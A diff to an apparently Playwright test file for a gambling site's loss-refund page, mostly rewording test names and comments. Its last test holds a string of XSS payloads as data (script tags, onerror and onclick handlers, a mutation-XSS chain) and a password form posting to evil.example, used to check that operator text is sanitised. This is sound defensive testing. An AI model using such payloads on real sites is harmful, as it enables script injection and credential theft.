@@ -24,14 +24,14 @@ async function openRefund(page: Page) {
   };
 }
 
-/** A member who lost so much baht at a game, on a day that is over. */
+/** A member who lost `baht` at a game on the day before. */
 async function newLoser(world: World, baht: number): Promise<Member> {
   const member = await world.newMember();
   await world.giveMoney(member.id, baht * 100);
   const { username } = await world.openAccount(member, 'pg', baht);
   await world.round('pg', username, { stake: baht, win: 0 });
   const token = await world.tokenOf(member);
-  // Noted when the game's balance is read, which a busy provider may put off.
+  // The loss is booked when the game's balance is read, which a busy provider may delay.
   const noted = async () => {
     await world.call('GET /api/wallet/refresh/slot', { token });
     return world.query('select result from game_days where member_id = $1', [member.id]);
@@ -43,10 +43,7 @@ async function newLoser(world: World, baht: number): Promise<Member> {
 
 const NOTHING = { result: false, bonus: false, info: '', rate: 5, refundAmount: 0, refundSuccess: 100, refundFail: 0 };
 
-test('a part of what was lost comes back: into the pot, and after a question into the wallet', async ({
-  page,
-  world,
-}) => {
+test('a part of a loss comes back: into the pot, and after a question into the wallet', async ({ page, world }) => {
   await enter(page, world, await newLoser(world, 1_000));
   const calls = watchCalls(page);
   const { now, pot, terms, log, claim, add, question, answer, dialog } = await openRefund(page);
@@ -104,7 +101,7 @@ test('while a bonus runs nothing can be claimed, and the sheet says why and lead
   await expect(page).toHaveURL('/user/bonus');
 });
 
-test('whoever lost nothing is told when to look again', async ({ page, world }) => {
+test('a member without losses is told when to look again', async ({ page, world }) => {
   await enter(page, world, await world.newMember());
   const { claim, now, pot, log } = await openRefund(page);
   await expect(claim).toBeDisabled();
@@ -132,7 +129,7 @@ test('ten refunds stand on a page', async ({ page, world }) => {
 });
 
 test.describe('when something fails', () => {
-  test('the sheet waits with a shape, says that it failed, and comes when it is tried again', async ({
+  test('the sheet shows a placeholder, then the failure, and its content after another try', async ({
     page,
     world,
   }) => {
@@ -158,7 +155,7 @@ test.describe('when something fails', () => {
     await expect(now).toBeVisible();
   });
 
-  test('a list that cannot be read says so quietly, and a refused claim is a toast', async ({ page, world }) => {
+  test('a list that cannot be read shows a quiet message, and a refused claim a toast', async ({ page, world }) => {
     await page.route('**/api/refund', (route) => route.fulfill({ status: 500, json: {} }));
     await page.route('**/api/refund/receive', (route) =>
       route.fulfill({ status: 422, json: { message: 'REFUND_MINIMUM' } }),
@@ -192,8 +189,8 @@ test.describe('when something fails', () => {
   });
 });
 
-test.describe('what an operator wrote', () => {
-  // What is parsed only to be looked through runs nowhere, and the browser says so.
+test.describe("an operator's text", () => {
+  // The page parses the text without running it; the policy blocks its handlers, and the browser reports that.
   test.use({ expectedError: /Content Security Policy/ });
 
   const HOSTILE = `<p onclick="hacked=1" style="position:fixed" class="x" id="root">คืน <b>5%</b><script>hacked=1</script></p>
@@ -202,7 +199,7 @@ test.describe('what an operator wrote', () => {
     <form action="https://evil.example"><input name="password"><button>ส่ง</button></form><iframe srcdoc="x"></iframe>
     <style>body { display: none }</style><math><mtext><table><mglyph><style><img src=x onerror="hacked=1">`;
 
-  test('is shown as words and links, and nothing of it runs, loads or looks otherwise', async ({ page, world }) => {
+  test('is shown as text and links, and its scripts, files and styles are ignored', async ({ page, world }) => {
     const json = { ...NOTHING, pot: 0, info: HOSTILE };
     await page.route('**/api/refund/check*', (route) => route.fulfill({ json }));
     await page.route('**/api/refund/banners*', (route) =>
